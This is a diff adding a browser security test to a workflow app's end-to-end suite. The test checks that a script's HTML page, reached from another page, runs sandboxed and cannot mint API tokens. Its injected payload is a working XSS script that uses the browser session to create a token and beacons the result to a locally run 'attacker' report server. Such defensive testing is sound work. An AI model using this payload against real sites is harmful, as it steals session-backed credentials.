@@ -451,6 +451,62 @@ test("a page on another localhost port cannot run scripts through the logged-in 
   assert.equal(forged.length, 0, `another port's page ran the script as the user: ${JSON.stringify(forged)}`);
 });
 
+test("a script's HTML opened from another page cannot act as the UI: no token is minted", async () => {
+  const http = await import("node:http");
+  await page.goto(`${base}/#/scripts`);
+  const api = (method, path, body) => page.evaluate(async ([method, path, body]) => {
+    const r = await fetch(path, { method, headers: { "Content-Type": "application/json" }, body: body && JSON.stringify(body) });
+    return { status: r.status, text: await r.text() };
+  }, [method, path, body]);
+  let r = await api("POST", "/api/w/local/scripts/create", { path: "u/e2e/html_page", language: "python3",
+    content: "def main(name: str = ''):\n    return {'windmill_content_type': 'text/html', 'result': '<p>hello ' + name + '</p>'}\n" });
+  assert.equal(r.status, 201, r.text);
+  r = await api("POST", "/api/w/local/http_triggers/create", { path: "u/e2e/html_page", script_path: "u/e2e/html_page",
+    route_path: "pages/hello", http_method: "get", authentication_method: "none" });
+  assert.equal(r.status, 201, r.text);
+  const tokenCount = async () => JSON.parse((await api("GET", "/api/users/tokens/list")).text).length;
+  const tokensBefore = await tokenCount();
+
+  const reports = [];
+  const server = http.createServer((req, res) => {
+    const u = new URL(req.url, "http://x");
+    if (u.pathname === "/report") reports.push(u.searchParams.get("r"));
+    res.setHeader("Content-Type", "text/html");
+    res.end(attackPage);
+  });
+  await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
+  const report = `http://127.0.0.1:${server.address().port}/report`;
+  // What the page injects: mint a token with the browser's session and
+  // send whatever comes back to the attacker.
+  const injected = `<script>
+new Image().src = "${report}?r=" + encodeURIComponent("ran:" + self.origin);
+fetch("/api/users/tokens/create", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
+  body: JSON.stringify({ label: "pwned" }) })
+  .then(async (x) => { new Image().src = "${report}?r=" + encodeURIComponent(x.status + ":" + await x.text()); })
+  .catch((e) => { new Image().src = "${report}?r=" + encodeURIComponent("error:" + e); });
+</script>`;
+  const payload = encodeURIComponent(Buffer.from(JSON.stringify({ name: injected })).toString("base64"));
+  const target = `${base}/api/r/pages/hello?payload=${payload}`;
+  const attackPage = `<!doctype html><body><script>location.href = ${JSON.stringify(target)}</script></body>`;
+  const evil = await context.newPage();
+  try {
+    await evil.goto(`http://127.0.0.1:${server.address().port}/`);
+    await evil.waitForURL((u) => u.pathname === "/api/r/pages/hello", { timeout: 10000 });
+    // The injected script runs (in a sandbox) and reports both its start
+    // and its attempt.
+    for (let i = 0; i < 100 && reports.length < 2; i++) await evil.waitForTimeout(100);
+  } finally {
+    await evil.close();
+    server.close();
+  }
+  assert.ok(reports.some((x) => x.startsWith("ran:")), `the page's script never ran, so this test proves nothing: ${JSON.stringify(reports)}`);
+  assert.ok(reports.some((x) => x === "ran:null"), `the script's page ran on millrun's origin instead of an opaque one: ${JSON.stringify(reports)}`);
+  assert.ok(!reports.some((x) => /^20\d:/.test(x)), `the script's page minted a token: ${JSON.stringify(reports)}`);
+  assert.equal(await tokenCount(), tokensBefore, "a token was minted");
+  const audit = await api("GET", "/api/millrun/audit");
+  assert.ok(!audit.text.includes("pwned"), `the audit log shows a token made by the page: ${audit.text.slice(0, 300)}`);
+});
+
 const editorText = () => page.locator(".cm-content").textContent();
 
 test("a template shows its code at once; language and template stay in step; unsaved work is not lost silently", async () => {
